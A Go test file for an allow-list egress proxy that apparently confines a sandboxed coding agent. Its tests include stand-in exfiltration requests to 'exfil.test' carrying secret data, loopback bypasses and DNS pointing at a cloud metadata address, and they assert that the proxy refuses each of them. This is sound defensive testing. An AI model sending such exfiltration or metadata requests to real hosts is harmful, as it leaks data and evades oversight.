package netproxy

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

func TestPolicy(t *testing.T) {
	t.Parallel()
	p, err := NewPolicy([]string{"proxy.golang.org", "*.example.com", "registry.test:8443", "10.0.0.5:8080", "[2001:db8::1]", "Mixed.Case.Org."})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		host string
		port int
		want bool
	}{
		{"proxy.golang.org", 443, true},
		{"proxy.golang.org", 80, true},
		{"PROXY.golang.org.", 443, true},
		{"proxy.golang.org", 22, false},
		{"evil.proxy.golang.org", 443, false},
		{"golang.org", 443, false},
		{"a.example.com", 443, true},
		{"a.b.example.com", 80, true},
		{"example.com", 443, false},
		{"badexample.com", 443, false},
		{"a.example.com", 8443, false},
		{"registry.test", 8443, true},
		{"registry.test", 443, false},
		{"10.0.0.5", 8080, true},
		{"10.0.0.5", 443, false},
		{"2001:db8::1", 443, true},
		{"2001:db8:0::1", 80, true},
		{"mixed.case.org", 443, true},
		{"127.0.0.1", 443, false},
		{"localhost", 443, false},
		{"", 443, false},
	}
	for _, tt := range tests {
		if got := p.Allows(tt.host, tt.port); got != tt.want {
			t.Errorf("Allows(%q, %d) = %v, want %v", tt.host, tt.port, got, tt.want)
		}
	}
}

func TestUpstreamFor(t *testing.T) {
	t.Parallel()
	env := map[string]string{"https_proxy": "http://user:pw@corp-proxy:3128", "HTTP_PROXY": "corp-proxy:8080", "NO_PROXY": "internal.example, .corp, 10.0.0.0/8, 192.0.2.7, nexus:8081"}
	u, err := UpstreamFromEnv(func(k string) string { return env[k] })
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		host   string
		port   int
		tunnel bool
		want   string
	}{
		{"proxy.golang.org", 443, true, "corp-proxy:3128"},
		{"proxy.golang.org", 80, false, "corp-proxy:8080"},
		{"internal.example", 443, true, ""},
		{"a.internal.example", 443, true, ""},
		{"x.corp", 443, true, ""},
		{"10.1.2.3", 443, true, ""},
		{"192.0.2.7", 443, true, ""},
		{"192.0.2.8", 443, true, "corp-proxy:3128"},
		{"nexus", 8081, true, ""},
		{"nexus", 443, true, "corp-proxy:3128"},
	}
	for _, tt := range tests {
		got := ""
		if p := u.For(tt.host, tt.port, tt.tunnel); p != nil {
			got = p.Host
		}
		if got != tt.want {
			t.Errorf("For(%q, %d, %v) = %q, want %q", tt.host, tt.port, tt.tunnel, got, tt.want)
		}
	}
	if _, err := UpstreamFromEnv(func(k string) string { return map[string]string{"HTTPS_PROXY": "ftp://x"}[k] }); err == nil {
		t.Error("an ftp:// proxy was taken for the runner's")
	}
}

// echoServer accepts connections on loopback and echoes what it reads; it counts the connections.
type echoServer struct {
	net.Listener
	mu    sync.Mutex
	conns int
}

func newEcho(t testing.TB) *echoServer {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	e := &echoServer{Listener: ln}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			e.mu.Lock()
			e.conns++
			e.mu.Unlock()
			go func() {
				defer c.Close()
				_, _ = io.Copy(c, c)
			}()
		}
	}()
	t.Cleanup(func() { ln.Close() })
	return e
}

func (e *echoServer) count() int {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.conns
}

func (e *echoServer) port() int { return e.Addr().(*net.TCPAddr).Port }

func startProxy(t testing.TB, opts Options) *Proxy {
	t.Helper()
	p, err := Start(opts)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { p.Close() })
	return p
}

// connectVia asks the proxy for a tunnel to target and returns its status line and, when it is open,
// the tunnel.
func connectVia(t testing.TB, proxy, target string) (string, net.Conn) {
	t.Helper()
	c, err := net.Dial("tcp", strings.TrimPrefix(proxy, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target)
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, &http.Request{Method: http.MethodConnect})
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK {
		c.Close()
		return resp.Status, nil
	}
	return resp.Status, c
}

var loopback = []netip.Addr{netip.MustParseAddr("127.0.0.1")}

func TestConnect(t *testing.T) {
	t.Parallel()
	echo := newEcho(t)
	allowed := fmt.Sprintf("registry.test:%d", echo.port())
	p := startProxy(t, Options{Allow: []string{allowed, "public.test"}, Hosts: map[string][]netip.Addr{"registry.test": loopback},
		Resolve: func(ctx context.Context, host string) ([]netip.Addr, error) {
			// public.test is on the list, but its DNS points at loopback and a cloud's metadata service.
			return []netip.Addr{netip.MustParseAddr("127.0.0.2"), netip.MustParseAddr("169.254.169.254"), netip.MustParseAddr("::1")}, nil
		}})

	status, c := connectVia(t, p.URL(), allowed)
	if c == nil {
		t.Fatalf("CONNECT %s: %s, want a tunnel", allowed, status)
	}
	fmt.Fprint(c, "ping\n")
	line, err := bufio.NewReader(c).ReadString('\n')
	if err != nil || line != "ping\n" {
		t.Errorf("through the tunnel: %q, %v", line, err)
	}
	c.Close()

	before := echo.count()
	for _, target := range []string{
		"exfil.test:443", "exfil.test:443", "EXFIL.test.:443", // one host, refused once
		fmt.Sprintf("127.0.0.1:%d", echo.port()), fmt.Sprintf("localhost:%d", echo.port()), fmt.Sprintf("[::1]:%d", echo.port()),
		"registry.test:443",                    // allowed on another port only
		fmt.Sprintf("public.test:%d", 443),     // resolves only to addresses no public name should lead to
		"ralph.test:0", "no-port.test", ":443", // malformed
	} {
		if status, c := connectVia(t, p.URL(), target); c != nil {
			c.Close()
			t.Errorf("CONNECT %s: %s, want it refused", target, status)
		}
	}
	if got := echo.count(); got != before {
		t.Errorf("%d refused tunnels reached the server", got-before)
	}
	got, more := p.Refused()
	want := []string{"exfil.test", "127.0.0.1", "localhost", "::1", "registry.test:443", "public.test"}
	if diff := cmp.Diff(want, got); diff != "" || more != 0 {
		t.Errorf("refused (-want +got), %d more:\n%s", more, diff)
	}
}

func TestRefusedIsBounded(t *testing.T) {
	t.Parallel()
	p := startProxy(t, Options{})
	for i := 0; i < MaxRefused+5; i++ {
		connectVia(t, p.URL(), fmt.Sprintf("h%d.exfil.test:443", i))
	}
	connectVia(t, p.URL(), strings.Repeat("a", 300)+".test:443")
	got, more := p.Refused()
	if len(got) != MaxRefused || more != 6 {
		t.Errorf("remembered %d hosts and %d more, want %d and 6", len(got), more, MaxRefused)
	}
}

func TestPlainHTTP(t *testing.T) {
	t.Parallel()
	var hits []string
	var mu sync.Mutex
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		hits = append(hits, r.Host+r.URL.Path)
		mu.Unlock()
		fmt.Fprint(w, "module data")
	}))
	defer srv.Close()
	_, port, _ := net.SplitHostPort(strings.TrimPrefix(srv.URL, "http://"))
	p := startProxy(t, Options{Allow: []string{"registry.test:" + port}, Hosts: map[string][]netip.Addr{"registry.test": loopback}})
	proxyURL, _ := url.Parse(p.URL())
	client := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(proxyURL)}, Timeout: 10 * time.Second}

	resp, err := client.Get("http://registry.test:" + port + "/mod/@v/list")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK || string(body) != "module data" {
		t.Errorf("allowed GET: %s %q", resp.Status, body)
	}
	for _, u := range []string{"http://exfil.test/leak?data=secret", "http://127.0.0.1:" + port + "/leak", "http://localhost:" + port + "/leak"} {
		resp, err := client.Get(u)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusForbidden {
			t.Errorf("GET %s: %s, want 403", u, resp.Status)
		}
	}
	// A request to the proxy as if it were a server is no way around it.
	resp, err = http.Get(p.URL() + "/leak")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Errorf("origin-form request: %s, want 400", resp.Status)
	}
	mu.Lock()
	defer mu.Unlock()
	if diff := cmp.Diff([]string{"registry.test:" + port + "/mod/@v/list"}, hits); diff != "" {
		t.Errorf("what reached the server (-want +got):\n%s", diff)
	}
	got, _ := p.Refused()
	if diff := cmp.Diff([]string{"exfil.test", "127.0.0.1", "localhost"}, got); diff != "" {
		t.Errorf("refused (-want +got):\n%s", diff)
	}
}

// fakeUpstream is the runner's own proxy: it records what it was asked and tunnels to the echo server
// whatever the target.
type fakeUpstream struct {
	net.Listener
	mu   sync.Mutex
	asks []string
}

func newFakeUpstream(t *testing.T, to string) *fakeUpstream {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	f := &fakeUpstream{Listener: ln}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				req, err := http.ReadRequest(bufio.NewReader(c))
				if err != nil {
					return
				}
				f.mu.Lock()
				f.asks = append(f.asks, req.Method+" "+req.Host+" "+req.Header.Get("Proxy-Authorization"))
				f.mu.Unlock()
				d, err := net.Dial("tcp", to)
				if err != nil {
					return
				}
				defer d.Close()
				fmt.Fprint(c, "HTTP/1.1 200 OK\r\n\r\n")
				go func() { _, _ = io.Copy(d, c) }()
				_, _ = io.Copy(c, d)
			}()
		}
	}()
	t.Cleanup(func() { ln.Close() })
	return f
}

func TestUpstreamChain(t *testing.T) {
	t.Parallel()
	echo := newEcho(t)
	up := newFakeUpstream(t, echo.Addr().String())
	env := map[string]string{"HTTPS_PROXY": "http://u:p@" + up.Addr().String()}
	u, err := UpstreamFromEnv(func(k string) string { return env[k] })
	if err != nil {
		t.Fatal(err)
	}
	// The names are not resolved: the runner's proxy does that.
	p := startProxy(t, Options{Allow: []string{"proxy.golang.org"}, Upstream: u,
		Resolve: func(context.Context, string) ([]netip.Addr, error) { return nil, errors.New("no DNS here") }})
	status, c := connectVia(t, p.URL(), "proxy.golang.org:443")
	if c == nil {
		t.Fatalf("CONNECT through the runner's proxy: %s", status)
	}
	fmt.Fprint(c, "hello\n")
	if line, _ := bufio.NewReader(c).ReadString('\n'); line != "hello\n" {
		t.Errorf("through both proxies: %q", line)
	}
	c.Close()
	if status, c := connectVia(t, p.URL(), "exfil.test:443"); c != nil {
		c.Close()
		t.Errorf("CONNECT exfil.test through the runner's proxy: %s, want it refused", status)
	}
	up.mu.Lock()
	defer up.mu.Unlock()
	if diff := cmp.Diff([]string{"CONNECT proxy.golang.org:443 Basic dTpw"}, up.asks); diff != "" {
		t.Errorf("what the runner's proxy was asked (-want +got):\n%s", diff)
	}
}

// Plain HTTP goes through the runner's HTTP_PROXY too, still checked against the allow-list by name.
func TestUpstreamChainPlainHTTP(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	var asked []string
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		asked = append(asked, r.Method+" "+r.URL.String()+" "+r.Header.Get("Proxy-Authorization"))
		mu.Unlock()
		fmt.Fprint(w, "from the runner's proxy")
	}))
	defer up.Close()
	env := map[string]string{"http_proxy": "http://u:p@" + strings.TrimPrefix(up.URL, "http://")}
	u, err := UpstreamFromEnv(func(k string) string { return env[k] })
	if err != nil {
		t.Fatal(err)
	}
	p := startProxy(t, Options{Allow: []string{"deb.example.org"}, Upstream: u,
		Resolve: func(context.Context, string) ([]netip.Addr, error) { return nil, errors.New("no DNS here") }})
	proxyURL, _ := url.Parse(p.URL())
	client := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(proxyURL)}, Timeout: 10 * time.Second}
	for _, tt := range []struct {
		url  string
		want int
	}{{"http://deb.example.org/dists/stable/Release", http.StatusOK}, {"http://exfil.test/leak", http.StatusForbidden}} {
		resp, err := client.Get(tt.url)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != tt.want {
			t.Errorf("GET %s: %s, want %d", tt.url, resp.Status, tt.want)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	if diff := cmp.Diff([]string{"GET http://deb.example.org/dists/stable/Release Basic dTpw"}, asked); diff != "" {
		t.Errorf("what the runner's proxy was asked (-want +got):\n%s", diff)
	}
	if got, _ := p.Refused(); !cmp.Equal(got, []string{"exfil.test"}) {
		t.Errorf("refused %q, want only exfil.test (not the runner's proxy)", got)
	}
}

func TestCloseEndsTunnels(t *testing.T) {
	t.Parallel()
	echo := newEcho(t)
	p, err := Start(Options{Allow: []string{fmt.Sprintf("registry.test:%d", echo.port())}, Hosts: map[string][]netip.Addr{"registry.test": loopback}})
	if err != nil {
		t.Fatal(err)
	}
	_, c := connectVia(t, p.URL(), fmt.Sprintf("registry.test:%d", echo.port()))
	if c == nil {
		t.Fatal("no tunnel")
	}
	defer c.Close()
	done := make(chan error, 1)
	go func() { done <- p.Close() }()
	select {
	case <-done:
	case <-time.After(10 * time.Second):
		t.Fatal("Close waited for an open tunnel")
	}
	_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
	if _, err := c.Read(make([]byte, 1)); err == nil || errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("the tunnel outlived the proxy: %v", err)
	}
}

func TestParseHosts(t *testing.T) {
	t.Parallel()
	got, err := ParseHosts("goproxy.test=127.0.0.1, Goproxy.test=::1,npm.test=[2001:db8::2]")
	if err != nil {
		t.Fatal(err)
	}
	want := map[string][]netip.Addr{
		"goproxy.test": {netip.MustParseAddr("127.0.0.1"), netip.MustParseAddr("::1")},
		"npm.test":     {netip.MustParseAddr("2001:db8::2")},
	}
	if diff := cmp.Diff(want, got, cmp.Comparer(func(a, b netip.Addr) bool { return a == b })); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if _, err := ParseHosts("goproxy.test"); err == nil {
		t.Error("an entry without an address was taken")
	}
}

// The agent chooses the hosts it asks for, as many as it likes: what the proxy keeps of them to say each
// once is bounded, however many it refuses.
func TestRefusedMemoryIsBounded(t *testing.T) {
	t.Parallel()
	p := startProxy(t, Options{})
	c, err := net.Dial("tcp", strings.TrimPrefix(p.URL(), "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	const n = 5000
	go func() {
		// One connection, every request sent ahead of its answer.
		w := bufio.NewWriter(c)
		for i := range n {
			target := fmt.Sprintf("h%d-%s.exfil.test:443", i, strings.Repeat("x", 200))
			fmt.Fprintf(w, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target)
		}
		w.Flush()
	}()
	br := bufio.NewReader(c)
	for i := range n {
		resp, err := http.ReadResponse(br, &http.Request{Method: http.MethodConnect})
		if err != nil {
			t.Fatalf("answer %d: %v", i, err)
		}
		_, _ = io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusForbidden {
			t.Fatalf("answer %d: %s, want 403", i, resp.Status)
		}
	}
	got, more := p.Refused()
	if len(got) != MaxRefused || more != n-MaxRefused {
		t.Errorf("remembered %d hosts and %d more, want %d and %d", len(got), more, MaxRefused, n-MaxRefused)
	}
	p.mu.Lock()
	kept := len(p.seen)
	p.mu.Unlock()
	if kept > maxSeen {
		t.Errorf("the proxy keeps %d refused hosts to say each once, want at most %d", kept, maxSeen)
	}
}

// A plain HTTP request that upgrades its connection (a WebSocket, h2c) becomes a byte stream through the
// proxy, as a CONNECT tunnel is: it ends with the proxy too.
func TestCloseEndsUpgrades(t *testing.T) {
	t.Parallel()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Upgrade") != "websocket" {
			http.Error(w, "upgrade only", http.StatusBadRequest)
			return
		}
		c, rw, err := w.(http.Hijacker).Hijack()
		if err != nil {
			return
		}
		defer c.Close()
		fmt.Fprint(rw, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n")
		rw.Flush()
		_, _ = io.Copy(c, rw) // an echo, until the other side ends
	}))
	defer srv.Close()
	_, port, _ := net.SplitHostPort(strings.TrimPrefix(srv.URL, "http://"))
	p, err := Start(Options{Allow: []string{"registry.test:" + port}, Hosts: map[string][]netip.Addr{"registry.test": loopback}})
	if err != nil {
		t.Fatal(err)
	}
	c, err := net.Dial("tcp", strings.TrimPrefix(p.URL(), "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	fmt.Fprintf(c, "GET http://registry.test:%s/ws HTTP/1.1\r\nHost: registry.test:%s\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n", port, port)
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, nil)
	if err != nil || resp.StatusCode != http.StatusSwitchingProtocols {
		t.Fatalf("upgrade: %v %v", resp, err)
	}
	fmt.Fprint(c, "ping\n")
	if line, err := br.ReadString('\n'); err != nil || line != "ping\n" {
		t.Fatalf("through the upgraded connection: %q, %v", line, err)
	}
	done := make(chan error, 1)
	go func() { done <- p.Close() }()
	select {
	case <-done:
	case <-time.After(10 * time.Second):
		t.Fatal("Close waited for an upgraded connection")
	}
	_ = c.SetReadDeadline(time.Now().Add(3 * time.Second))
	if _, err := br.ReadByte(); err == nil || errors.Is(err, os.ErrDeadlineExceeded) {
		t.Errorf("the upgraded connection outlived the proxy: %v", err)
	}
}

// TestConnectionsServedAreBounded: the agent may open as many connections as it likes; the proxy serves at
// most MaxConns at once, and the rest wait unaccepted (costing ralph nothing) until one ends. Before, each
// was served at once, a goroutine and buffers of ralph's each.
func TestConnectionsServedAreBounded(t *testing.T) {
	t.Parallel()
	p := startProxy(t, Options{MaxConns: 4})
	addr := strings.TrimPrefix(p.URL(), "http://")
	var held []net.Conn
	for range 4 {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		held = append(held, c)
	}
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	fmt.Fprintf(c, "CONNECT refused.test:443 HTTP/1.1\r\nHost: refused.test:443\r\n\r\n")
	br := bufio.NewReader(c)
	_ = c.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
	if _, err := br.ReadByte(); err == nil {
		t.Fatal("a fifth connection was served while four were open, want it to wait")
	}
	held[0].Close()
	_ = c.SetReadDeadline(time.Now().Add(10 * time.Second))
	resp, err := http.ReadResponse(br, &http.Request{Method: http.MethodConnect})
	if err != nil {
		t.Fatalf("once one connection ended, the waiting one got no answer: %v", err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("answer %s, want 403", resp.Status)
	}
}
